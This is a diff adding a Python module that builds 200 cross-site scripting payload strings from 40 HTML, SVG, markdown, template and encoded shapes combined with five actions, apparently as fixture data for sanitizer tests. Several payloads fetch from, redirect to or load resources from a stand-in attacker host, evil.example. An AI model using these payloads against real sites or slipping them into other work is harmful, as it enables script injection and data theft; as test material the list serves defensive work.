@@ -1,0 +1,55 @@
+"""Two hundred texts that try to be more than text."""
+
+# What each would do if it ran: call alert, leave a mark, or fetch from a name that is not ours.
+_DO = [
+    "alert(1)",
+    "window.pwned=1",
+    "fetch('//evil.example/x')",
+    "document.title='pwned'",
+    "location='//evil.example/'",
+]
+_SHAPES = [
+    "<script>{do}</script>",
+    "<ScRiPt >{do}</ScRiPt>",
+    "</title><script>{do}</script>",
+    "</textarea><script>{do}</script>",
+    "</style><script>{do}</script>",
+    "--><script>{do}</script>",
+    "]]><script>{do}</script>",
+    '"><script>{do}</script>',
+    "'><script>{do}</script>",
+    "<img src=x onerror={do}>",
+    '<img src="x" onerror="{do}">',
+    "<img src=//evil.example/{n}.png onload={do}>",
+    "<svg onload={do}>",
+    "<svg><script>{do}</script></svg>",
+    "<svg><animate onbegin={do} attributeName=x dur=1s>",
+    "<math><mtext><style><img src=x onerror={do}></style>",
+    "<body onload={do}>",
+    "<iframe src=\"javascript:{do}\"></iframe>",
+    "<iframe srcdoc='<script>{do}</script>'></iframe>",
+    "<object data=\"javascript:{do}\"></object>",
+    "<embed src=//evil.example/{n}>",
+    "<link rel=stylesheet href=//evil.example/{n}.css>",
+    "<style>@import '//evil.example/{n}.css';</style>",
+    "<base href=//evil.example/{n}/>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:{do}\">",
+    "<form action=//evil.example/><input autofocus onfocus={do}>",
+    "<details open ontoggle={do}>",
+    "<video><source onerror={do}></video>",
+    "<a href=\"javascript:{do}\">x</a>",
+    "[x](javascript:{do})",
+    "![x](//evil.example/{n}.png)",
+    "![x][r]\n\n[r]: //evil.example/{n}.png",
+    "javascript:{do}//",
+    "${{{do}}}",
+    "{{{{constructor.constructor('{do}')()}}}}",
+    "\u202e<script>{do}</script>\u2066",
+    "\u0000<img src=x onerror={do}>",
+    "<خبر onclick={do}>عاجل</خبر><img src=x onerror={do}>",
+    "&lt;img src=x onerror={do}&gt;",
+    "%3Cscript%3E{do}%3C/script%3E",
+]
+PAYLOADS = [
+    shape.format(do=do, n=n) for shape in _SHAPES for n, do in enumerate(_DO, start=1)
+]
